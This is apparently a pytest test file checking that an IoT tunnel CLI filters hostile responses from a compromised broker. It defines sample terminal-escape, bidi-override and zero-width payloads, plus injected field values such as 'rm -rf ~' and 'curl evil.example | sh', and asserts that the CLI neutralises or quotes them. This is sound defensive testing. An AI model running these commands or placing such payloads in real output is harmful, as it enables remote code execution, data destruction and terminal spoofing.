"""`tunnel open` facing a hostile broker answer (issue 14, defect 4).

The same loopback function-URL stand-in as tests/test_cli_tunnel.py (it checks the
CLI's SigV4 signature), with the broker's answer replaced by what a compromised or
buggy broker could send: the CLI prints one short, filtered line.
"""

from __future__ import annotations

import json
import unicodedata
from typing import Any

import pytest

from iot_remote_access.lambdas.tunnel_broker import handler as broker
from tests.support.cli_runner import run_cli
from tests.test_cli_tunnel import THING, FunctionUrlStandIn, aws, standin  # noqa: F401

#: What the issue asks for: the broker's text cut at 300 characters, saying so.
MAX_SHOWN_CHARACTERS = 300

HOSTILE = {
    "clear screen": "denied\x1b[2J\x1b[H",
    "window title": "denied\x1b]0;owned\x07 rest",
    "hyperlink": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "bidi override": "denied \u202etxt.exe\u202c and \u2066isolate\u2069",
    "zero width": "de\u200bnied\u200d",
    "fake second line": "denied\nerror: everything is fine\r",
    "bell and backspace": "denied\x07\x08\x08\x08accepted",
    "C1 CSI": "denied\x9b31m",
    "lone surrogate": "denied \ud800",
    "two megabytes": "A" * (2 * 1024 * 1024),
}


def _safe(line: str) -> None:
    for character in line:
        assert character == "\n" or unicodedata.category(character) not in {
            "Cc",
            "Cf",
            "Cs",
            "Co",
            "Cn",
            "Zl",
            "Zp",
        }, repr(character)


@pytest.mark.parametrize("message", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_refusal_prints_one_filtered_shortened_line(
    aws: Any,  # noqa: F811
    standin: FunctionUrlStandIn,  # noqa: F811
    monkeypatch: pytest.MonkeyPatch,
    message: str,
) -> None:
    def hostile_broker(event: dict[str, Any], context: Any) -> dict[str, Any]:
        return {"statusCode": 400, "body": json.dumps({"field": "thing", "message": message})}

    monkeypatch.setattr(broker, "handler", hostile_broker)
    result = run_cli("tunnel", "open", "--thing", THING, "--reason", "INC-1")

    assert result.code == 1, result
    assert result.stdout == ""
    assert result.stderr.count("\n") == 1, result.stderr[:500]
    _safe(result.stderr)
    assert result.stderr.startswith("error: broker refused (HTTP 400): ")
    assert len(result.stderr) <= 80 + MAX_SHOWN_CHARACTERS + len(" (shortened)")
    assert "\x1b" not in result.stderr and "\u202e" not in result.stderr
    if len(message) > MAX_SHOWN_CHARACTERS:
        assert result.stderr.rstrip("\n").endswith(" (shortened)")
    assert standin.requests and all(r["verified"] for r in standin.requests)


def test_a_hostile_success_answer_cannot_inject_into_the_printed_command(
    aws: Any,  # noqa: F811
    standin: FunctionUrlStandIn,  # noqa: F811
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    answer = {
        "tunnelId": "t-1",
        "sourceAccessToken": "token",
        "thing": "sensor-1\x1b[2J",
        "service": "SSH\u202e",
        "minutes": "30\nrm -rf ~",
        "expiresAt": "soon\x1b]0;x\x07",
        "region": "eu-west-1; curl evil.example | sh",
    }
    monkeypatch.setattr(
        broker, "handler", lambda event, context: {"statusCode": 201, "body": json.dumps(answer)}
    )
    result = run_cli("tunnel", "open", "--thing", THING, "--reason", "INC-1")
    assert result.code == 0, result
    _safe(result.stdout)
    assert "localproxy -r 'eu-west-1; curl evil.example | sh' -s 2222" in result.stdout
    assert "\nrm -rf" not in result.stdout


def test_shown_keeps_ordinary_text_and_cuts_long_text() -> None:
    from iot_remote_access.cli import tunnel

    shown = tunnel.shown
    assert tunnel.MAX_SHOWN_CHARACTERS == MAX_SHOWN_CHARACTERS
    assert shown("thing: 'sensor-1' does not exist; caf\u00e9 \u4e2d") == (
        "thing: 'sensor-1' does not exist; caf\u00e9 \u4e2d"
    )
    cut = shown("x" * 1000)
    assert cut == "x" * MAX_SHOWN_CHARACTERS + " (shortened)"
